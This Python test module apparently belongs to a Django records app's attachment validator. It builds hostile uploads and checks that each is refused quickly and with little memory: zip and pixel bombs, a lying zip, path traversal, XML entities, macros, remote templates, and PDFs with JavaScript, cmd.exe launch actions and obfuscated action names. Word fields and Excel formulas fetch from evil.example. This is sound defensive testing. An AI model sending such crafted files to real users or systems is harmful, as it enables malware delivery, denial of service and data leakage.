"""Files made to hurt: a clear sentence within 5 s, and under 300 MB in the process that looks at them."""

import io
import json
import os
import subprocess
import sys
from functools import partial
from itertools import pairwise

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from records import attachments
from records.attachments import REASONS, Attachment, Refused, attach, checked
from tests.records import fetching, papers

MB = 2**20


def lying_zip():
    """An archive whose table says that an entry is small."""
    import struct

    data = papers.with_entries(papers.word(), {"word/big.xml": b" " * (40 * MB)})
    at = data.rindex(b"PK\x01\x02", 0, data.rindex(b"PK\x05\x06"))
    return data[: at + 24] + struct.pack("<I", 1000) + data[at + 28 :]


def jpeg_cut_short():
    return papers.picture("JPEG", (800, 600))[:-5000]


HOSTILE = {
    "nothing": (lambda: b"", "empty"),
    "more than is taken": (lambda: b"%PDF-1.4" + bytes(21 * MB), "too_large"),
    "a program named pdf": (lambda: b"MZ" + bytes(5000), "unknown"),
    "a web page": (lambda: b"<html><script>alert(1)</script>", "unknown"),
    "a drawing": (lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>", "unknown"),
    "a gif": (lambda: papers.picture("GIF"), "unknown"),
    "an old doc": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5000), "old_office"),
    "a plain zip": (lambda: papers.zipped(readme=b"x"), "unknown"),
    "a zip dressed as Word": (lambda: papers.with_entries(b"", {papers.CONTENT_TYPES: b"<x/>"}), "unknown"),
    "Word with macros": (papers.with_macros, "macros"),
    "Excel with macros": (
        lambda: papers.with_entries(papers.excel(), {"xl/vbaProject.bin": b"\xd0\xcf"}),
        "macros",
    ),
    "Word with a template from elsewhere": (
        lambda: papers.with_entries(
            papers.word(),
            {"word/_rels/settings.xml.rels": b'<r Type="x/attachedTemplate" Target="http://evil"/>'},
        ),
        "linked",
    ),
    **{
        f"Word with {kind} from elsewhere in {part}": (
            partial(papers.word_with, part, kind, encoding),
            "linked",
        )
        for part, kind, encoding in [
            ("word/_rels/settings.xml.rels", "attachedTemplate", "utf-8"),
            ("word/_rels/Settings.xml.RELS", "attachedTemplate", "utf-8"),
            ("word/_rels/other.xml.rels", "attachedTemplate", "utf-16"),
            ("word/_rels/more.xml.rels", "oleObject", "utf-8"),
            ("word/_rels/footer9.xml.rels", "image", "utf-8"),
            ("word/_rels/webSettings.xml.rels", "frame", "utf-16"),
            ("xl/externalLinks/_rels/externalLink1.xml.rels", "externalLinkPath", "utf-8"),
        ]
    },
    "Word with a field that fetches": (
        lambda: fetching.word(fetching.field("INCLUDEPICTURE https://evil.example/x")),
        "field",
    ),
    "Word with endless fields": (
        lambda: fetching.word((fetching.mark("begin") + fetching.run("IF ")) * 20_000),
        "damaged",
    ),
    "Excel with a formula that fetches": (
        lambda: fetching.excel('WEBSERVICE("https://evil.example")'),
        "data",
    ),
    "Excel with an endless formula": (lambda: fetching.excel("1+" * (2 * MB) + "1"), "damaged"),
    "Word with relations that are no XML": (
        lambda: papers.with_entries(papers.word(), {"word/_rels/x.rels": b"<a"}),
        "damaged",
    ),
    "Word with entities in relations": (
        lambda: papers.with_entries(
            papers.word(), {"word/_rels/x.rels": '<!DOCTYPE a [<!ENTITY b "c">]><a/>'.encode("utf-16")}
        ),
        "damaged",
    ),
    "Word with entities": (
        lambda: papers.with_entries(papers.word(), {papers.CONTENT_TYPES: b'<!DOCTYPE a [<!ENTITY b "c">]>'}),
        "damaged",
    ),
    "Word with a way out": (lambda: papers.with_entries(papers.word(), {"../evil": b"x"}), "damaged"),
    "a zip bomb": (lambda: papers.with_entries(papers.word(), {"word/media/a": bytes(300 * MB)}), "bomb"),
    "a small zip bomb": (
        lambda: papers.with_entries(papers.word(), {"word/media/a": bytes(50 * MB)}),
        "bomb",
    ),
    "a zip bomb that lies": (lying_zip, "damaged"),
    "many entries": (
        lambda: papers.with_entries(papers.word(), {f"word/{n}": b"" for n in range(3100)}),
        "bomb",
    ),
    "Word cut short": (lambda: papers.word()[:-3000], "damaged"),
    "a pixel bomb": (lambda: papers.flat_png(60_000, 60_000), "pixels"),
    "a picture cut short": (jpeg_cut_short, "damaged"),
    "a png cut short": (lambda: papers.picture("PNG", (300, 300))[:-2000], "damaged"),
    "a pdf cut short": (lambda: papers.pdf(5)[:-300], "damaged"),
    "a pdf of rubbish": (lambda: b"%PDF-1.7\n" + b"rubbish " * 5000 + b"%%EOF", "damaged"),
    "a pdf of many pages": (lambda: papers.pdf(attachments.MOST_PAGES + 1), "pages"),
    "a pdf with a wide tree": (lambda: papers.pdf_with_wide_tree(6_000), "pages"),
    "a pdf with a very wide tree": (
        lambda: papers.pdf_with_wide_tree(2_000_000),
        ("pages", "bomb", "damaged", "slow"),
    ),
    "a pdf with a deep tree": (papers.pdf_with_deep_tree, "damaged"),
    "a pdf that goes round": (papers.pdf_with_a_ring, "damaged"),
    "a pdf that unpacks to a gigabyte": (papers.pdf_with_stream_bomb, ("bomb", "damaged", "slow")),
    "a pdf with a password": (
        lambda: papers.pdf(encryption=papers.pikepdf.Encryption(owner="a", user="b")),
        "password",
    ),
    "a pdf with a script": (
        lambda: papers.pdf_that_acts({"/S": papers.pikepdf.Name.JavaScript, "/JS": "app.alert(1)"}),
        "active",
    ),
    "a pdf with a script on a page": (
        lambda: papers.pdf_that_acts({"/S": papers.pikepdf.Name.JavaScript, "/JS": "x"}, where="AA"),
        "active",
    ),
    "a pdf that starts a program": (
        lambda: papers.pdf_that_acts({"/S": papers.pikepdf.Name.Launch, "/F": "cmd.exe"}, where="A"),
        "active",
    ),
    **{
        f"a pdf: {what}": (partial(papers.pdf_with, change), "active")
        for what, change in {
            "a script in its outline": papers.outline(papers.SCRIPT),
            "a program in its outline": papers.outline({"/S": papers.pikepdf.Name.Launch, "/F": "cmd.exe"}),
            "a script behind a rendition": papers.outline({"/S": papers.pikepdf.Name.Rendition, "/JS": "x"}),
            "events of all pages": papers.pages_with_events,
            "events of a field between fields": papers.field_with_events,
            "a form of its own": papers.xfa,
            "a file inside": papers.attached,
            "an action that is pointed at": papers.pointed_at,
            "another computer at opening": papers.opening(
                {"/S": papers.pikepdf.Name.GoToR, "/F": r"\\evil\share\x.pdf"}
            ),
            "a web page at opening": papers.opening({"/S": papers.pikepdf.Name.URI, "/URI": "http://evil"}),
            "a web page after opening": papers.opening(papers.first_page_and_on),
        }.items()
    },
    "a pdf that names its opening twice": (
        lambda: papers.catalog_with("/OpenAction[4 0 R/Fit]/OpenAction<</S/Java#53cript/JS(x)>>"),
        "active",
    ),
    "a pdf with an encrypted script": (
        lambda: papers.pdf_with(
            papers.outline(papers.SCRIPT), encryption=papers.pikepdf.Encryption(owner="a", user="")
        ),
        "active",
    ),
    **{
        f"a pdf that writes {name}": (partial(papers.spelled_in_codes, name), "active")
        for name in ("/Java#53cript", "/Lau#6ech", "/Lau#6Ech", "/#53ubmitForm", "/Import#44ata")
    },
    "a pdf that is a zip as well": (lambda: papers.pdf() + papers.zipped(evil=b"x"), ("damaged", "unknown")),
    "a zip that is a pdf as well": (lambda: papers.zipped(evil=b"x") + papers.pdf(), "unknown"),
}


def work() -> float:
    """The seconds that this process and those it started have worked."""
    times = os.times()
    return times.user + times.system + times.children_user + times.children_system


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_file_is_refused_with_its_reason_within_five_seconds(name):
    make, expected = HOSTILE[name]
    data = make()
    before = work()
    with pytest.raises(Refused) as refusal:
        checked(SimpleUploadedFile("证书.pdf", data))
    assert work() - before < 5
    assert refusal.value.reason in (expected if isinstance(expected, tuple) else (expected,))
    assert "%(" not in str(refusal.value)


MEASURE = """
import json, resource, subprocess, sys
script, limits, path = sys.argv[1:]
with open(path, "rb") as data:
    ended = subprocess.run([sys.executable, "-I", script, limits], stdin=data, capture_output=True, timeout=9)
print(json.dumps(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss))
"""


@pytest.mark.parametrize(
    "name",
    [
        "a zip bomb",
        "a pixel bomb",
        "a pdf with a wide tree",
        "a pdf with a deep tree",
        "heavy",
        "a pdf that unpacks to a gigabyte",
    ],
)
def test_looking_at_a_hostile_file_takes_less_than_300_mb(name, tmp_path):
    path = tmp_path / "file"
    path.write_bytes(papers.flat_png(7000, 7000) if name not in HOSTILE else HOSTILE[name][0]())
    limits = json.dumps(attachments.LIMITS)
    told = [sys.executable, "-c", MEASURE, attachments.INSPECTION, limits, str(path)]
    found = subprocess.run(told, capture_output=True, check=True, timeout=30)
    assert json.loads(found.stdout) / 1024 < 300


def test_a_file_that_keeps_the_looker_busy_is_given_up(monkeypatch, tmp_path):
    busy = tmp_path / "busy.py"
    busy.write_text("while True: pass")
    monkeypatch.setattr(attachments, "INSPECTION", str(busy))
    monkeypatch.setattr(attachments, "PATIENCE_SECONDS", 0.5)
    with pytest.raises(Refused) as refusal:
        checked(SimpleUploadedFile("x.pdf", papers.pdf()))
    assert refusal.value.reason == "slow"


@pytest.mark.django_db
def test_a_refused_file_leaves_nothing_behind(settings):
    from accounts.models import Notice, User

    owner = User.objects.create_user("owner", name="龚䶮")
    record = Notice.objects.create(recipient=owner, event="e", subject="s")
    with pytest.raises(Refused):
        attach(checked(SimpleUploadedFile("证书.pdf", b"MZ")), record, "scan", by=owner)
    assert not Attachment.objects.exists()
    assert not settings.MEDIA_ROOT.exists() or not any(settings.MEDIA_ROOT.rglob("*"))


HONEST = {
    "a pdf": lambda: papers.pdf(3),
    "a pdf with links and names that mean nothing": lambda: papers.pdf_with(papers.links),
    "a pdf that opens at a page": lambda: papers.pdf_with(papers.opening(papers.first_page)),
    "a pdf packed by hand": lambda: papers.catalog_with("/OpenAction[4 0 R/Fit]"),
    "a pdf to fill in": lambda: papers.pdf_with(papers.form_to_fill_in),
    "a pdf that is not packed": lambda: papers.pdf_with(
        papers.links, object_stream_mode=papers.pikepdf.ObjectStreamMode.disable
    ),
    "a pdf that may not be changed": lambda: papers.pdf_with(
        papers.links, encryption=papers.pikepdf.Encryption(owner="a", user="")
    ),
    "a pdf with a long outline": lambda: papers.pdf_with(long_outline),
    "a scan": lambda: scanned(),
    "Word": papers.word,
    "Word with a link": lambda: papers.word_with("word/_rels/other.xml.rels", "hyperlink"),
    "Word with a link in UTF-16": lambda: papers.word_with("word/_rels/o.rels", "hyperlink", "utf-16"),
    "Word with a picture": lambda: papers.word_with(
        "word/_rels/o.rels", "image", target="media/image1.png", mode="Internal"
    ),
    "Excel": papers.excel,
}


def scanned() -> bytes:
    """Pages that are pictures, as a scanner makes them."""
    from PIL import Image

    out = io.BytesIO()
    pages = [Image.effect_noise((300, 400), 80) for _page in range(5)]
    pages[0].save(out, "PDF", save_all=True, append_images=pages[1:])
    return out.getvalue()


def long_outline(document) -> None:
    goto = papers.first_page(document)
    items = [document.make_indirect(papers.pikepdf.Dictionary(Title="章", A=goto)) for _at in range(2000)]
    for one, other in pairwise(items):
        one.Next, other.Prev = other, one
    document.Root.Outlines = papers.pikepdf.Dictionary(First=items[0], Last=items[-1], Count=len(items))


@pytest.mark.parametrize("name", HONEST)
def test_an_honest_file_is_taken(name):
    file = checked(SimpleUploadedFile("证书.pdf", HONEST[name]()))
    assert (file.data[:2], file.kind) in [(b"%P", "pdf"), (b"PK", "docx"), (b"PK", "xlsx")]


def test_every_reason_is_tried():
    tried = {
        reason
        for _make, reasons in HOSTILE.values()
        for reason in ([reasons] if isinstance(reasons, str) else reasons)
    }
    assert set(REASONS) - tried == {"full"}
